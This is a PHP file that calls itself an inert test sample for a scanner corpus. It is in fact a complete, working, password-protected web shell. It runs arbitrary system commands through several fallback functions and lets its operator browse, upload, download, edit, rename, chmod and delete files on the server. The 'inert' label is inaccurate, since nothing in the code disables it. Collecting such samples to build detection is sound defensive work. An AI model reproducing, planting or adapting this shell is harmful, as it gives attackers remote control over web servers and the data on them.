<?php
/*
 * Test sample: full-featured web shell (file manager + command runner),
 * protected by an md5 password check. Inert test data for the scanner corpus.
 */
@error_reporting(0);
@set_time_limit(0);
@ini_set('display_errors', '0');
session_start();

$auth_hash = '5f4dcc3b5aa765d61d8327deb882cf99'; // md5 of the operator's password

if (isset($_POST['p']) && md5($_POST['p']) == $auth_hash) {
    $_SESSION['ok'] = 1;
}
if (empty($_SESSION['ok'])) {
    echo '<form method="post"><input type="password" name="p"><input type="submit" value="&gt;&gt;"></form>';
    exit;
}

$cwd = isset($_REQUEST['d']) ? $_REQUEST['d'] : getcwd();
@chdir($cwd);
$cwd = getcwd();

function run_cmd($c)
{
    $out = '';
    if (function_exists('system')) {
        ob_start();
        system($c . ' 2>&1');
        $out = ob_get_clean();
    } elseif (function_exists('shell_exec')) {
        $out = shell_exec($c . ' 2>&1');
    } elseif (function_exists('exec')) {
        exec($c . ' 2>&1', $lines);
        $out = implode("\n", $lines);
    } elseif (function_exists('passthru')) {
        ob_start();
        passthru($c . ' 2>&1');
        $out = ob_get_clean();
    } elseif (function_exists('popen')) {
        $h = popen($c . ' 2>&1', 'r');
        while (!feof($h)) {
            $out .= fread($h, 4096);
        }
        pclose($h);
    } elseif (function_exists('proc_open')) {
        $p = proc_open($c, array(1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $pipes);
        $out = stream_get_contents($pipes[1]) . stream_get_contents($pipes[2]);
        proc_close($p);
    } else {
        $out = `$c`;
    }
    return $out;
}

$act = isset($_POST['a']) ? $_POST['a'] : '';
$msg = '';
switch ($act) {
    case 'del':
        $t = $_POST['t'];
        is_dir($t) ? @rmdir($t) : @unlink($t);
        $msg = 'deleted ' . htmlspecialchars($t);
        break;
    case 'save':
        file_put_contents($_POST['t'], $_POST['src']);
        $msg = 'saved';
        break;
    case 'chmod':
        chmod($_POST['t'], octdec($_POST['mode']));
        break;
    case 'rename':
        rename($_POST['t'], $_POST['n']);
        break;
    case 'mkdir':
        mkdir($cwd . '/' . $_POST['n']);
        break;
    case 'up':
        move_uploaded_file($_FILES['u']['tmp_name'], $cwd . '/' . $_FILES['u']['name']);
        $msg = 'uploaded';
        break;
    case 'dl':
        header('Content-Type: application/octet-stream');
        header('Content-Disposition: attachment; filename="' . basename($_POST['t']) . '"');
        readfile($_POST['t']);
        exit;
}

echo '<html><head><title>FM :: ' . php_uname('n') . '</title></head><body style="background:#000;color:#0f0;font:12px monospace">';
echo '<div>uname: ' . php_uname() . ' | uid: ' . getmyuid() . ' | php ' . phpversion() . ' | safe_mode: ' . (ini_get('safe_mode') ? 'on' : 'off') . '</div>';
echo '<div>disabled: ' . ini_get('disable_functions') . '</div>';
echo '<div>' . $msg . '</div>';

echo '<form method="post"><input type="hidden" name="d" value="' . htmlspecialchars($cwd) . '">';
echo '$ <input name="cmd" size="80"><input type="submit" value="exec"></form>';
if (!empty($_POST['cmd'])) {
    echo '<pre>' . htmlspecialchars(run_cmd($_POST['cmd'])) . '</pre>';
}

echo '<table>';
foreach (scandir($cwd) as $f) {
    $full = $cwd . '/' . $f;
    $perm = substr(sprintf('%o', @fileperms($full)), -4);
    echo '<tr><td>' . (is_dir($full)
        ? '<a href="?d=' . urlencode($full) . '">[' . htmlspecialchars($f) . ']</a>'
        : htmlspecialchars($f)) . '</td><td>' . @filesize($full) . '</td><td>' . $perm . '</td>';
    echo '<td><form method="post" style="display:inline"><input type="hidden" name="t" value="' . htmlspecialchars($full) . '">'
        . '<select name="a"><option>del</option><option>dl</option><option>chmod</option><option>rename</option></select>'
        . '<input name="mode" size="4"><input name="n" size="10"><input type="submit" value="go"></form></td></tr>';
}
echo '</table>';

if (isset($_GET['edit'])) {
    echo '<form method="post"><input type="hidden" name="a" value="save"><input type="hidden" name="t" value="' . htmlspecialchars($_GET['edit']) . '">';
    echo '<textarea name="src" cols="120" rows="30">' . htmlspecialchars(@file_get_contents($_GET['edit'])) . '</textarea><input type="submit" value="save"></form>';
}

echo '<form method="post" enctype="multipart/form-data"><input type="hidden" name="a" value="up"><input type="file" name="u"><input type="submit" value="upload"></form>';
echo '</body></html>';
